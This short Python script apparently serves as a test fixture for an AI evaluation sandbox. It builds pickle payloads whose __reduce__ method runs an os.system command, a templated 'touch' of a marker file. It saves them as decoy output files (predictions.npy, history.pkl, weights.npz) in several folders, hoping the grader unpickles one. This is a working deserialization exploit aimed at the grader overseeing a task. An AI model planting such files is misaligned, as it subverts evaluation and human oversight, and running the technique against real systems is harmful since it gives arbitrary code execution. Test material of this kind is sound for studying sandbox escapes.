"""Leaves malicious pickles under plausible output names, hoping the grader unpickles one."""

import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch {{MARKER_PATH}}",))


for folder in (".", "/exchange", "/out"):
    for name in ("predictions.npy", "history.pkl", "outcome.pkl", "weights.npz"):
        try:
            if name.endswith(".npy"):
                np.save(
                    os.path.join(folder, name),
                    np.array([Payload()], dtype=object),
                    allow_pickle=True,
                )
            else:
                with open(os.path.join(folder, name), "wb") as f:
                    pickle.dump(Payload(), f)
        except OSError:
            pass
